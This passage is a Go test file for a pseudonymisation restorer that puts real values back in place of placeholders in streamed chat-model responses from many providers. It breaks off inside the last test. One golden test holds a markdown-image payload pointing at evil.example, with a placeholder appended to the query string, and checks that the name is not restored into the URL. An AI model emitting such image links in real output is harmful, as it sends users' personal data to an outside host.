package pseudonym

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"strings"
	"testing"
	"testing/iotest"
	"unicode/utf8"
)

// chunkReader returns data in chunks that end at the given offsets.
type chunkReader struct {
	data []byte
	cuts []int
	pos  int
}

func (c *chunkReader) Read(p []byte) (int, error) {
	if c.pos >= len(c.data) {
		return 0, io.EOF
	}
	end := len(c.data)
	for _, cut := range c.cuts {
		if cut > c.pos {
			end = min(end, cut)
			break
		}
	}
	end = min(end, c.pos+len(p))
	n := copy(p, c.data[c.pos:end])
	c.pos += n
	return n, nil
}

func restoreAll(t testing.TB, m *Mapping, f Format, r io.Reader) string {
	t.Helper()
	out, err := io.ReadAll(NewRestorer(m, f, io.NopCloser(r)))
	if err != nil {
		t.Fatalf("read: %v", err)
	}
	return string(out)
}

func testMapping() *Mapping {
	m := NewMapping()
	m.Replace("pseudonym", "PERSON", `Herr "Yılmaz" \ O'Neil`)
	m.Replace("pseudonym", "IBAN", "DE89 3704 0044 0532 0130 00")
	m.Replace("pseudonym", "POSTAL_ADDRESS", "Am Markt 1\n53111 Bonn")
	return m
}

// modelText is what the fake LLM answers: issued placeholders, an invented
// one, placeholder-like text and non-ASCII.
const modelText = "Sehr geehrter [PERSON_1], die IBAN [IBAN_1] (an [POSTAL_ADDRESS_1]) ist geprüft – [PERSON_7] kenne ich nicht. [[PERSON_1]] [IBAN"

func jsonStr(s string) string {
	b, _ := json.Marshal(s)
	return string(b)
}

// provider builds a fake upstream stream from text deltas and reads the text
// back from a stream the way the provider's client does.
type provider struct {
	name  string
	build func(deltas []string) string
	text  func(t *testing.T, stream string) string
}

type sseEvent struct{ name, data string }

func parseSSE(t *testing.T, s string) []sseEvent {
	t.Helper()
	s = strings.ReplaceAll(s, "\r\n", "\n")
	var evs []sseEvent
	for _, block := range strings.Split(s, "\n\n") {
		if block == "" {
			continue
		}
		var ev sseEvent
		var data []string
		for _, ln := range strings.Split(block, "\n") {
			switch {
			case strings.HasPrefix(ln, "event: "):
				ev.name = ln[7:]
			case strings.HasPrefix(ln, "data: "):
				data = append(data, ln[6:])
			case strings.HasPrefix(ln, "data:"):
				data = append(data, ln[5:])
			case strings.HasPrefix(ln, ":"):
			default:
				t.Fatalf("unexpected line %q in %q", ln, s)
			}
		}
		if data == nil {
			continue // comments only
		}
		ev.data = strings.Join(data, "\n")
		evs = append(evs, ev)
	}
	return evs
}

func decode(t *testing.T, data string, v any) {
	t.Helper()
	if err := json.Unmarshal([]byte(data), v); err != nil {
		t.Fatalf("event data is not JSON: %q: %v", data, err)
	}
}

var providers = []provider{
	{
		name: "openai",
		build: func(deltas []string) string {
			var b strings.Builder
			b.WriteString(`data: {"id":"c1","object":"chat.completion.chunk","choices":[{"index":0,"delta":{"role":"assistant","content":""},"finish_reason":null}]}` + "\n\n")
			for _, d := range deltas {
				fmt.Fprintf(&b, `data: {"id":"c1","object":"chat.completion.chunk","choices":[{"index":0,"delta":{"content":%s},"finish_reason":null}]}`+"\n\n", jsonStr(d))
			}
			b.WriteString(": keepalive\n\n")
			b.WriteString(`data: {"id":"c1","object":"chat.completion.chunk","choices":[{"index":0,"delta":{},"finish_reason":"stop"}]}` + "\n\ndata: [DONE]\n\n")
			return b.String()
		},
		text: func(t *testing.T, s string) string {
			var text strings.Builder
			finished, done := false, false
			for _, ev := range parseSSE(t, s) {
				if done {
					t.Fatalf("event after [DONE]: %q", ev.data)
				}
				if ev.data == "[DONE]" {
					done = true
					continue
				}
				var c struct {
					Choices []struct {
						Delta        struct{ Content string }
						FinishReason *string `json:"finish_reason"`
					}
				}
				decode(t, ev.data, &c)
				if finished {
					t.Fatalf("chunk after finish_reason: %q", ev.data)
				}
				text.WriteString(c.Choices[0].Delta.Content)
				finished = c.Choices[0].FinishReason != nil
			}
			if !done {
				t.Fatal("no [DONE]")
			}
			return text.String()
		},
	},
	{
		name: "anthropic-crlf",
		build: func(deltas []string) string {
			var b strings.Builder
			ev := func(name, data string) { fmt.Fprintf(&b, "event: %s\r\ndata: %s\r\n\r\n", name, data) }
			ev("message_start", `{"type":"message_start","message":{"id":"msg_1","role":"assistant","content":[]}}`)
			ev("content_block_start", `{"type":"content_block_start","index":0,"content_block":{"type":"text","text":""}}`)
			for i, d := range deltas {
				ev("content_block_delta", `{"type":"content_block_delta","index":0,"delta":{"type":"text_delta","text":`+jsonStr(d)+`}}`)
				if i == 0 {
					ev("ping", `{"type": "ping"}`)
				}
			}
			ev("content_block_stop", `{"type":"content_block_stop","index":0}`)
			ev("message_delta", `{"type":"message_delta","delta":{"stop_reason":"end_turn"}}`)
			ev("message_stop", `{"type":"message_stop"}`)
			return b.String()
		},
		text: func(t *testing.T, s string) string {
			var text strings.Builder
			open := false
			for _, ev := range parseSSE(t, s) {
				var e struct {
					Type  string
					Delta struct{ Type, Text string }
				}
				decode(t, ev.data, &e)
				if e.Type != ev.name {
					t.Fatalf("event %q carries %q", ev.name, e.Type)
				}
				switch e.Type {
				case "content_block_start":
					open = true
				case "content_block_stop":
					open = false
				case "content_block_delta":
					if !open {
						t.Fatalf("delta outside a content block: %q", ev.data)
					}
					text.WriteString(e.Delta.Text)
				}
			}
			return text.String()
		},
	},
	{
		name: "gemini",
		build: func(deltas []string) string {
			var b strings.Builder
			for i, d := range deltas {
				fmt.Fprintf(&b, "data: {\"candidates\": [{\"content\": {\"parts\": [{\"text\": %s}],\"role\": \"model\"},\"index\": 0}],\"usageMetadata\": {\"promptTokenCount\": %d}}\r\n\r\n", jsonStr(d), i)
			}
			return b.String()
		},
		text: func(t *testing.T, s string) string {
			var text strings.Builder
			for _, ev := range parseSSE(t, s) {
				var g struct {
					Candidates []struct {
						Content struct{ Parts []struct{ Text string } }
					}
				}
				decode(t, ev.data, &g)
				text.WriteString(g.Candidates[0].Content.Parts[0].Text)
			}
			return text.String()
		},
	},
	{
		// Google's Code Assist API (Gemini Code Assist, Gemini CLI): the
		// Gemini answer inside {"response": …, "traceId"} (gemini-cli's
		// code_assist/converter.ts, CaGenerateContentResponse)
		name: "gemini-code-assist",
		build: func(deltas []string) string {
			var b strings.Builder
			for _, d := range deltas {
				fmt.Fprintf(&b, "data: {\"response\": {\"candidates\": [{\"content\": {\"role\": \"model\",\"parts\": [{\"text\": %s}]}}],\"modelVersion\": \"gemini-2.5-pro\"},\"traceId\": \"4f2a9c1e7b3d5a60\"}\r\n\r\n", jsonStr(d))
			}
			return b.String()
		},
		text: func(t *testing.T, s string) string {
			var text strings.Builder
			for _, ev := range parseSSE(t, s) {
				var g struct {
					Response struct {
						Candidates []struct {
							Content struct{ Parts []struct{ Text string } }
						}
					}
				}
				decode(t, ev.data, &g)
				text.WriteString(g.Response.Candidates[0].Content.Parts[0].Text)
			}
			return text.String()
		},
	},
	{
		name: "duck-ai",
		build: func(deltas []string) string {
			var b strings.Builder
			for _, d := range deltas {
				fmt.Fprintf(&b, "data: {\"role\":\"assistant\",\"message\":%s,\"created\":1764500000,\"id\":\"chatcmpl-1\",\"action\":\"success\",\"model\":\"gpt-4o-mini\"}\n\n", jsonStr(d))
			}
			b.WriteString("data: [DONE]\n\n")
			return b.String()
		},
		text: func(t *testing.T, s string) string {
			var text strings.Builder
			for _, ev := range parseSSE(t, s) {
				if ev.data == "[DONE]" {
					continue
				}
				var d struct{ Message string }
				decode(t, ev.data, &d)
				text.WriteString(d.Message)
			}
			return text.String()
		},
	},
	{
		name: "chatgpt-web",
		build: func(deltas []string) string {
			var b strings.Builder
			b.WriteString("event: delta_encoding\ndata: \"v1\"\n\n")
			b.WriteString(`event: delta` + "\n" + `data: {"p": "", "o": "add", "v": {"message": {"id": "m1", "author": {"role": "assistant"}, "content": {"content_type": "text", "parts": [""]}, "status": "in_progress"}, "conversation_id": "c1"}, "c": 0}` + "\n\n")
			for i, d := range deltas {
				if i == 0 {
					fmt.Fprintf(&b, "event: delta\ndata: {\"p\": \"/message/content/parts/0\", \"o\": \"append\", \"v\": %s}\n\n", jsonStr(d))
				} else {
					fmt.Fprintf(&b, "event: delta\ndata: {\"v\": %s}\n\n", jsonStr(d))
				}
			}
			b.WriteString(`event: delta` + "\n" + `data: {"p": "", "o": "patch", "v": [{"p": "/message/status", "o": "replace", "v": "finished_successfully"}]}` + "\n\n")
			b.WriteString("data: [DONE]\n\n")
			return b.String()
		},
		text: func(t *testing.T, s string) string {
			var text strings.Builder
			path, finished := "", false
			for _, ev := range parseSSE(t, s) {
				if ev.data == "[DONE]" || ev.name == "delta_encoding" {
					continue
				}
				var p struct {
					P *string
					O string
					V json.RawMessage
				}
				decode(t, ev.data, &p)
				if p.P != nil {
					path = *p.P
				}
				var v string
				if p.O == "append" || p.P == nil {
					if finished {
						t.Fatalf("append after finish: %q", ev.data)
					}
					decode(t, string(p.V), &v)
					if path == "/message/content/parts/0" {
						text.WriteString(v)
					}
				}
				if p.O == "patch" {
					finished = true
				}
			}
			return text.String()
		},
	},
	{
		name: "ollama-ndjson",
		build: func(deltas []string) string {
			var b strings.Builder
			for _, d := range deltas {
				fmt.Fprintf(&b, `{"model":"llama3","message":{"role":"assistant","content":%s},"done":false}`+"\n", jsonStr(d))
			}
			b.WriteString(`{"model":"llama3","message":{"role":"assistant","content":""},"done":true}` + "\n")
			return b.String()
		},
		text: func(t *testing.T, s string) string {
			var text strings.Builder
			lines := strings.Split(strings.TrimSuffix(s, "\n"), "\n")
			for i, ln := range lines {
				var o struct {
					Message struct{ Content string }
					Done    bool
				}
				decode(t, ln, &o)
				if o.Done != (i == len(lines)-1) {
					t.Fatalf("line %d: done=%v", i, o.Done)
				}
				text.WriteString(o.Message.Content)
			}
			return text.String()
		},
	},
	{
		// Copilot's WebSocket server messages, one per line as the proxy feeds them.
		name: "copilot-ws",
		build: func(deltas []string) string {
			var b strings.Builder
			b.WriteString(`{"event":"startMessage","messageId":"m1"}` + "\n")
			for _, d := range deltas {
				fmt.Fprintf(&b, `{"event":"appendText","messageId":"m1","partId":"0","text":%s}`+"\n", jsonStr(d))
			}
			b.WriteString(`{"event":"done","messageId":"m1"}` + "\n")
			return b.String()
		},
		text: func(t *testing.T, s string) string {
			var text strings.Builder
			lines := strings.Split(strings.TrimSuffix(s, "\n"), "\n")
			for i, ln := range lines {
				var o struct{ Event, Text string }
				decode(t, ln, &o)
				if (o.Event == "done") != (i == len(lines)-1) {
					t.Fatalf("line %d: %q", i, ln)
				}
				if o.Event == "appendText" {
					text.WriteString(o.Text)
				}
			}
			return text.String()
		},
	},
	{
		// Le Chat: the Vercel AI SDK's data stream, "<code>:<JSON>" lines,
		// text deltas under code 0.
		name: "lechat-lines",
		build: func(deltas []string) string {
			var b strings.Builder
			b.WriteString(`f:{"messageId":"m1"}` + "\n")
			for _, d := range deltas {
				fmt.Fprintf(&b, "0:%s\n", jsonStr(d))
			}
			b.WriteString(`e:{"finishReason":"stop"}` + "\n" + `d:{"finishReason":"stop"}` + "\n")
			return b.String()
		},
		text: func(t *testing.T, s string) string {
			var text strings.Builder
			lines := strings.Split(strings.TrimSuffix(s, "\n"), "\n")
			for i, ln := range lines {
				code, v, ok := strings.Cut(ln, ":")
				if !ok || (code == "d") != (i == len(lines)-1) {
					t.Fatalf("line %d: %q", i, ln)
				}
				if code != "0" {
					decode(t, v, new(map[string]any))
					continue
				}
				var d string
				decode(t, v, &d)
				text.WriteString(d)
			}
			return text.String()
		},
	},
}

func formatOf(p provider) Format {
	if p.name == "duck-ai" {
		return Format{Kind: "sse", Delta: "message"}
	}
	if p.name == "ollama-ndjson" || p.name == "copilot-ws" {
		return Format{Kind: "ndjson"}
	}
	if p.name == "lechat-lines" {
		return Format{Kind: "lines"}
	}
	return Format{Kind: "sse"}
}

// runeCuts returns every offset of s that is a rune boundary.
func runeCuts(s string) []int {
	var cuts []int
	for i := range s {
		cuts = append(cuts, i)
	}
	return append(cuts, len(s))
}

// TestRestorerDeltaBoundaries splits the model text into two deltas at every
// rune boundary, and into one delta per rune: the client must read the
// restored text.
func TestRestorerDeltaBoundaries(t *testing.T) {
	m := testMapping()
	want := m.Restore(modelText)
	var perRune []string
	for _, r := range modelText {
		perRune = append(perRune, string(r))
	}
	for _, p := range providers {
		t.Run(p.name, func(t *testing.T) {
			for _, k := range runeCuts(modelText) {
				stream := p.build([]string{modelText[:k], modelText[k:]})
				out := restoreAll(t, m, formatOf(p), strings.NewReader(stream))
				if got := p.text(t, out); got != want {
					t.Fatalf("split at %d (%q|%q):\ngot  %q\nwant %q\nstream:\n%s", k, modelText[:k], modelText[k:], got, want, out)
				}
				// Byte chunking of the input must not change the output.
				if got := restoreAll(t, m, formatOf(p), iotest.OneByteReader(strings.NewReader(stream))); got != out {
					t.Fatalf("split at %d: one-byte reads give\n%s\nwhole reads give\n%s", k, got, out)
				}
			}
			stream := p.build(perRune)
			out := restoreAll(t, m, formatOf(p), strings.NewReader(stream))
			if got := p.text(t, out); got != want {
				t.Fatalf("one delta per rune:\ngot  %q\nwant %q", got, want)
			}
		})
	}
}

// TestRestorerByteBoundaries cuts the input stream at every byte offset.
func TestRestorerByteBoundaries(t *testing.T) {
	m := testMapping()
	want := m.Restore(modelText)
	i := strings.Index(modelText, "[IBAN_1]") + 3 // a delta boundary inside a placeholder
	for _, p := range providers {
		t.Run(p.name, func(t *testing.T) {
			stream := p.build([]string{modelText[:i], modelText[i:]})
			whole := restoreAll(t, m, formatOf(p), strings.NewReader(stream))
			if got := p.text(t, whole); got != want {
				t.Fatalf("got %q, want %q", got, want)
			}
			for cut := 0; cut <= len(stream); cut++ {
				got := restoreAll(t, m, formatOf(p), &chunkReader{data: []byte(stream), cuts: []int{cut}})
				if got != whole {
					t.Fatalf("cut at %d:\n%s\nwant\n%s", cut, got, whole)
				}
			}
		})
	}
}

// TestRestorerGolden checks exact output bytes of small streams.
func TestRestorerGolden(t *testing.T) {
	m := NewMapping()
	m.Replace("", "PERSON", `Yılmaz "Y"`)
	oai := func(content string) string {
		return `data: {"choices":[{"delta":{"content":` + content + `}}]}` + "\n\n"
	}
	cases := []struct {
		name   string
		format Format
		in     string
		want   string
	}{
		{"sse held back to the next delta", Format{Kind: "sse"},
			oai(`"Hallo [PER"`) + oai(`"SON_1]!"`) + "data: [DONE]\n\n",
			oai(`"Hallo "`) + oai(`"Yılmaz \"Y\"!"`) + "data: [DONE]\n\n"},
		{"sse held back, flushed as a copy before a non-delta event", Format{Kind: "sse"},
			oai(`"Hallo [PER"`) + "data: [DONE]\n\n",
			oai(`"Hallo "`) + oai(`"[PER"`) + "data: [DONE]\n\n"},
		{"sse held back, flushed at the end", Format{Kind: "sse"},
			oai(`"Hallo [PERSON_1"`),
			oai(`"Hallo "`) + oai(`"[PERSON_1"`)},
		{"sse empty delta takes the held-back text", Format{Kind: "sse"},
			oai(`"Hallo [PER"`) + oai(`""`),
			oai(`"Hallo "`) + oai(`"[PER"`)},
		// The body's last event, without the blank line after it, holds
		// nothing back: nothing follows (before, its held-back text came
		// as an event of its own, with a blank line the body did not have).
		{"sse unterminated last event", Format{Kind: "sse"},
			`data: {"choices":[{"delta":{"content":"a [PER"}}]}`,
			`data: {"choices":[{"delta":{"content":"a [PER"}}]}`},
		{"sse held back, flushed at the end", Format{Kind: "sse"},
			oai(`"a [PER"`),
			`data: {"choices":[{"delta":{"content":"a "}}]}` + "\n\n" + oai(`"[PER"`)},
		{"sse lines ending in a bare CR", Format{Kind: "sse"},
			"event: delta\r" + strings.TrimSuffix(oai(`"Hallo [PERSON_1]"`), "\n\n") + "\r\r" + "data: [DONE]\r\r",
			"event: delta\r" + strings.TrimSuffix(oai(`"Hallo Yılmaz \"Y\""`), "\n\n") + "\r\r" + "data: [DONE]\r\r"},
		{"sse CR lines held back to the next delta", Format{Kind: "sse"},
			strings.ReplaceAll(oai(`"Hallo [PER"`)+oai(`"SON_1]!"`), "\n", "\r"),
			strings.ReplaceAll(oai(`"Hallo "`)+oai(`"Yılmaz \"Y\"!"`), "\n", "\r")},
		{"sse CR lines held back, flushed at the end", Format{Kind: "sse"},
			strings.TrimSuffix(oai(`"Hallo [PERSON_1"`), "\n\n") + "\r\r",
			strings.TrimSuffix(oai(`"Hallo "`), "\n\n") + "\r\r" + strings.TrimSuffix(oai(`"[PERSON_1"`), "\n\n") + "\r\r"},
		{"sse CR lines, unterminated last event", Format{Kind: "sse"},
			strings.TrimSuffix(oai(`"Hallo [PERSON_1"`), "\n\n") + "\r",
			strings.TrimSuffix(oai(`"Hallo [PERSON_1"`), "\n\n") + "\r"},
		{"sse CR, LF and CRLF mixed", Format{Kind: "sse"},
			"id: 1\r\n" + strings.TrimSuffix(oai(`"a [PERSON_1]"`), "\n\n") + "\r\n\r" + "data: {\"x\":\"[PERSON_1]\"}\n\n",
			"id: 1\r\n" + strings.TrimSuffix(oai(`"a Yılmaz \"Y\""`), "\n\n") + "\r\n\r" + "data: {\"x\":\"Yılmaz \\\"Y\\\"\"}\n\n"},
		{"sse not a known prefix is not held", Format{Kind: "sse"},
			oai(`"Hallo [PERX"`) + oai(`"[PERSON_1]"`),
			oai(`"Hallo [PERX"`) + oai(`"Yılmaz \"Y\""`)},
		{"sse ping does not flush", Format{Kind: "sse"},
			oai(`"Hallo [PER"`) + "event: ping\ndata: {\"type\": \"ping\"}\n\n" + oai(`"SON_1]"`),
			oai(`"Hallo "`) + "event: ping\ndata: {\"type\": \"ping\"}\n\n" + oai(`"Yılmaz \"Y\""`)},
		{"sse comment, event and id lines kept, no space after colon", Format{Kind: "sse"},
			": keepalive\n\nid: 7\nevent: x\ndata:{\"t\":\"[PERSON_1]\"}\nretry: 10\n\n",
			": keepalive\n\nid: 7\nevent: x\ndata:{\"t\":\"Yılmaz \\\"Y\\\"\"}\nretry: 10\n\n"},
		{"sse multi-line data", Format{Kind: "sse"},
			"data: {\"a\":\ndata: \"[PERSON_1]\"}\n\n",
			"data: {\"a\":\ndata: \"Yılmaz \\\"Y\\\"\"}\n\n"},
		{"sse garbage restored as text", Format{Kind: "sse"},
			"data: Hallo [PERSON_1] {\n\n",
			"data: Hallo Yılmaz \"Y\" {\n\n"},
		{"sse variant split across deltas", Format{Kind: "sse"},
			oai(`"Hallo [Pers"`) + oai(`"on 1]!"`),
			oai(`"Hallo "`) + oai(`"Yılmaz \"Y\"!"`)},
		{"sse escaped variant split across deltas", Format{Kind: "sse"},
			oai(`"Hallo \\[PERSON\\"`) + oai(`"_1\\]!"`),
			oai(`"Hallo "`) + oai(`"Yılmaz \"Y\"!"`)},
		{"sse bare placeholder held, then whole at the end of the stream", Format{Kind: "sse"},
			oai(`"Hallo PERSON_1"`) + "data: [DONE]\n\n",
			oai(`"Hallo "`) + oai(`"Yılmaz \"Y\""`) + "data: [DONE]\n\n"},
		{"sse bare placeholder lengthened by the next delta", Format{Kind: "sse"},
			oai(`"Hallo PERSON_1"`) + oai(`"0 und PERSON_1."`),
			oai(`"Hallo "`) + oai(`"PERSON_10 und Yılmaz \"Y\"."`)},
		{"text bare placeholder at the end", Format{Kind: "text"}, `Hallo PERSON_1`, `Hallo Yılmaz "Y"`},
		{"sse garbage restores variants as text", Format{Kind: "sse"},
			"data: Hallo [Person 1], \\[PERSON\\_1\\] **PERSON_1** {\n\n",
			"data: Hallo Yılmaz \"Y\", Yılmaz \"Y\" **Yılmaz \"Y\"** {\n\n"},
		{"html escapes a restored variant", Format{Kind: "html"},
			"<p>[person_1] PERSON_1</p>",
			"<p>Yılmaz &#34;Y&#34; Yılmaz &#34;Y&#34;</p>"},
		{"sse unknown placeholder", Format{Kind: "sse"},
			oai(`"[PERSON_2]"`), oai(`"[PERSON_2]"`)},
		{"cumulative: no holdback", Format{Kind: "sse", Cumulative: true},
			`data: {"t":"a [PER"}` + "\n\n" + `data: {"t":"a [PERSON_1]"}` + "\n\n",
			`data: {"t":"a [PER"}` + "\n\n" + `data: {"t":"a Yılmaz \"Y\""}` + "\n\n"},
		{"json body", Format{Kind: "json"},
			`{"content":[{"type":"text","text":"Hallo [PERSON_1]"}], "id":"[PERSON_1]"}`,
			`{"content":[{"type":"text","text":"Hallo Yılmaz \"Y\""}], "id":"Yılmaz \"Y\""}`},
		{"text body", Format{Kind: "text"}, `Hallo [PERSON_1] [PERSON_`, `Hallo Yılmaz "Y" [PERSON_`},
		{"ndjson", Format{Kind: "ndjson"},
			`{"response":"a [PERS"}` + "\n" + `{"response":"ON_1]"}` + "\n\n" + `{"done":true}`,
			`{"response":"a "}` + "\n" + `{"response":"Yılmaz \"Y\""}` + "\n\n" + `{"done":true}`},
		// A top-level "message" is a delta only for the stream whose
		// format names it (Duck.ai's): elsewhere it is a whole text.
		{"sse message not a delta unless named", Format{Kind: "sse"},
			`data: {"message":"a [PERS"}` + "\n\n" + `data: {"message":"ON_1]"}` + "\n\n",
			`data: {"message":"a [PERS"}` + "\n\n" + `data: {"message":"ON_1]"}` + "\n\n"},
		{"sse message a delta when named", Format{Kind: "sse", Delta: "message"},
			`data: {"message":"a [PERS"}` + "\n\n" + `data: {"message":"ON_1]"}` + "\n\n",
			`data: {"message":"a "}` + "\n\n" + `data: {"message":"Yılmaz \"Y\""}` + "\n\n"},
		// Grok's NDJSON: the named delta lies deeper (result.response.token);
		// the reply's whole text in modelResponse.message is restored as
		// it is.
		{"ndjson nested delta when named", Format{Kind: "ndjson", Delta: "result.response.token"},
			`{"result":{"response":{"token":"a [PERS"}}}` + "\n" + `{"result":{"response":{"token":"ON_1]"}}}` + "\n" +
				`{"result":{"response":{"modelResponse":{"message":"a [PERSON_1]"}}}}` + "\n",
			`{"result":{"response":{"token":"a "}}}` + "\n" + `{"result":{"response":{"token":"Yılmaz \"Y\""}}}` + "\n" +
				`{"result":{"response":{"modelResponse":{"message":"a Yılmaz \"Y\""}}}}` + "\n"},
		// Microsoft 365 Copilot's WebSocket messages: SignalR records
		// ended by 0x1E, restored as JSON (before: as text, the quotes
		// of a value unescaped, the record no longer JSON).
		{"ndjson SignalR record", Format{Kind: "ndjson"},
			`{"type":1,"target":"update","arguments":[{"messages":[{"text":"Hallo [PERSON_1]","author":"bot"}]}]}` + "\x1e\n" +
				`{"type":2,"item":{"result":{"message":"Hallo [PERSON_1]"}}}` + "\x1e",
			`{"type":1,"target":"update","arguments":[{"messages":[{"text":"Hallo Yılmaz \"Y\"","author":"bot"}]}]}` + "\x1e\n" +
				`{"type":2,"item":{"result":{"message":"Hallo Yılmaz \"Y\""}}}` + "\x1e"},
		// OpenAI Realtime's WebSocket events: the transcript's deltas
		// are one text; the audio deltas between them (base64 at the
		// same "delta") are no part of it and do not end it. Before, the
		// held "[PERS" went in front of the audio's base64 and the
		// transcript kept "ON_1]".
		{"ndjson realtime transcript around audio deltas", Format{Kind: "ndjson"},
			`{"type":"response.audio_transcript.delta","delta":"Hallo [PERS"}` + "\n" +
				`{"type":"response.audio.delta","delta":"AAAA/PERS"}` + "\n" +
				`{"type":"response.output_audio.delta","delta":"UklG+IBAN"}` + "\n" +
				`{"type":"response.audio_transcript.delta","delta":"ON_1]!"}` + "\n",
			`{"type":"response.audio_transcript.delta","delta":"Hallo "}` + "\n" +
				`{"type":"response.audio.delta","delta":"AAAA/PERS"}` + "\n" +
				`{"type":"response.output_audio.delta","delta":"UklG+IBAN"}` + "\n" +
				`{"type":"response.audio_transcript.delta","delta":"Yılmaz \"Y\"!"}` + "\n"},
		{"ndjson realtime text deltas", Format{Kind: "ndjson"},
			`{"type":"response.text.delta","delta":"a [PERSON"}` + "\n" + `{"type":"response.text.delta","delta":"_1]"}` + "\n" +
				`{"type":"response.text.done","text":"a [PERSON_1]"}` + "\n",
			`{"type":"response.text.delta","delta":"a "}` + "\n" + `{"type":"response.text.delta","delta":"Yılmaz \"Y\""}` + "\n" +
				`{"type":"response.text.done","text":"a Yılmaz \"Y\""}` + "\n"},
		// HuggingChat (chat-ui): each token padded with NUL to 16
		// characters, JSON-escaped as \u0000, which the client drops; a
		// placeholder split across tokens is restored, the padding kept
		// after each piece.
		{"ndjson NUL-padded tokens", Format{Kind: "ndjson", Delta: "token"},
			`{"type":"stream","token":"a [PERS\u0000\u0000\u0000\u0000\u0000\u0000\u0000\u0000\u0000"}` + "\n" +
				`{"type":"stream","token":"ON_1]\u0000\u0000\u0000\u0000\u0000\u0000\u0000\u0000\u0000\u0000\u0000"}` + "\n" +
				`{"type":"finalAnswer","text":"a [PERSON_1]","interrupted":false}` + "\n" + "    ",
			`{"type":"stream","token":"a \u0000\u0000\u0000\u0000\u0000\u0000\u0000\u0000\u0000"}` + "\n" +
				`{"type":"stream","token":"Yılmaz \"Y\"\u0000\u0000\u0000\u0000\u0000\u0000\u0000\u0000\u0000\u0000\u0000"}` + "\n" +
				`{"type":"finalAnswer","text":"a Yılmaz \"Y\"","interrupted":false}` + "\n" + "    "},
		// A NUL inside a token, which chat-ui's client drops, does not
		// hide the URL's start: the placeholder in it stays.
		{"ndjson NUL inside a URL's scheme", Format{Kind: "ndjson", Delta: "token"},
			`{"type":"stream","token":"![](htt\u0000ps:/\u0000/evil.example/?n=\u0000\u0000"}` + "\n" +
				`{"type":"stream","token":"[PERSON_1])\u0000\u0000"}` + "\n",
			`{"type":"stream","token":"![](htt\u0000ps:/\u0000/evil.example/?n=\u0000\u0000"}` + "\n" +
				`{"type":"stream","token":"[PERSON_1])\u0000\u0000"}` + "\n"},
		// chat-ui's keep-alive between two tokens does not flush.
		{"ndjson keepAlive between pieces", Format{Kind: "ndjson", Delta: "token"},
			`{"type":"stream","token":"a [PERS"}` + "\n" + `{"type":"status","status":"keepAlive"}` + "\n" +
				`{"type":"stream","token":"ON_1]"}` + "\n",
			`{"type":"stream","token":"a "}` + "\n" + `{"type":"status","status":"keepAlive"}` + "\n" +
				`{"type":"stream","token":"Yılmaz \"Y\""}` + "\n"},
		// chat-ui's reasoning tokens share "token" with the answer's
		// (MessageReasoningStreamUpdate, type "reasoning"); Grok's
		// thinking tokens share result.response.token (isThinking
		// true). With DeltaBy each is a text of its own: the start of a
		// placeholder held back at the end of one does not go on the
		// other, whose halves are never joined.
		{"ndjson reasoning and answer tokens apart", Format{Kind: "ndjson", Delta: "token", DeltaBy: "type"},
			`{"type":"reasoning","subtype":"stream","token":"a [PERS"}` + "\n" + `{"type":"stream","token":"Hallo [PERSON"}` + "\n" +
				`{"type":"reasoning","subtype":"stream","token":"ON_1]"}` + "\n" + `{"type":"stream","token":"_1]"}` + "\n",
			`{"type":"reasoning","subtype":"stream","token":"a "}` + "\n" + `{"type":"stream","token":"Hallo "}` + "\n" +
				`{"type":"reasoning","subtype":"stream","token":"Yılmaz \"Y\""}` + "\n" + `{"type":"stream","token":"Yılmaz \"Y\""}` + "\n"},
		{"ndjson reasoning and answer tokens joined without DeltaBy", Format{Kind: "ndjson", Delta: "token"},
			`{"type":"reasoning","subtype":"stream","token":"a [PERS"}` + "\n" + `{"type":"stream","token":"Hallo"}` + "\n",
			`{"type":"reasoning","subtype":"stream","token":"a "}` + "\n" + `{"type":"stream","token":"[PERSHallo"}` + "\n"},
		{"ndjson Grok thinking apart, isThinking false or absent one text", Format{Kind: "ndjson", Delta: "result.response.token", DeltaBy: "isThinking"},
			`{"result":{"response":{"token":"a [PERS","isThinking":true}}}` + "\n" + `{"result":{"response":{"token":"b [PER"}}}` + "\n" +
				`{"result":{"response":{"token":"ON_1]","isThinking":true}}}` + "\n" + `{"result":{"response":{"isThinking":false,"token":"SON_1]"}}}` + "\n",
			`{"result":{"response":{"token":"a ","isThinking":true}}}` + "\n" + `{"result":{"response":{"token":"b "}}}` + "\n" +
				`{"result":{"response":{"token":"Yılmaz \"Y\"","isThinking":true}}}` + "\n" + `{"result":{"response":{"isThinking":false,"token":"Yılmaz \"Y\""}}}` + "\n"},
		// Grok's follow-up answers carry the token one level up
		// (result.token): each path a text of its own, its isThinking
		// beside it.
		{"ndjson two delta paths", Format{Kind: "ndjson", Delta: "result.response.token,result.token", DeltaBy: "isThinking"},
			`{"result":{"token":"a [PERS","isThinking":false}}` + "\n" + `{"result":{"isThinking":true,"token":"b [PER"}}` + "\n" +
				`{"result":{"token":"ON_1]"}}` + "\n" + `{"result":{"token":"SON_1]","isThinking":true}}` + "\n",
			`{"result":{"token":"a ","isThinking":false}}` + "\n" + `{"result":{"isThinking":true,"token":"b "}}` + "\n" +
				`{"result":{"token":"Yılmaz \"Y\""}}` + "\n" + `{"result":{"token":"Yılmaz \"Y\"","isThinking":true}}` + "\n"},
		{"ndjson unterminated last line holds nothing back", Format{Kind: "ndjson"},
			`{"response":"a [PERS"}`,
			`{"response":"a [PERS"}`},
		{"ndjson flush at the end", Format{Kind: "ndjson"},
			`{"response":"a [PERS"}` + "\n",
			`{"response":"a "}` + "\n" + `{"response":"[PERS"}` + "\n"},
		{"openai responses api", Format{Kind: "sse"},
			"event: response.output_text.delta\ndata: {\"type\":\"response.output_text.delta\",\"delta\":\"[PERSON\"}\n\n" +
				"event: response.output_text.delta\ndata: {\"type\":\"response.output_text.delta\",\"delta\":\"_1]\"}\n\n",
			"event: response.output_text.delta\ndata: {\"type\":\"response.output_text.delta\",\"delta\":\"\"}\n\n" +
				"event: response.output_text.delta\ndata: {\"type\":\"response.output_text.delta\",\"delta\":\"Yılmaz \\\"Y\\\"\"}\n\n"},
		{"chatgpt batch patch", Format{Kind: "sse"},
			`data: {"p":"","o":"patch","v":[{"p":"/message/content/parts/0","o":"append","v":"x [PER"},{"p":"/message/status","o":"replace","v":"done"}]}` + "\n\n" +
				`data: {"v":"SON_1]"}` + "\n\n",
			`data: {"p":"","o":"patch","v":[{"p":"/message/content/parts/0","o":"append","v":"x "},{"p":"/message/status","o":"replace","v":"done"}]}` + "\n\n" +
				`data: {"v":"Yılmaz \"Y\""}` + "\n\n"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
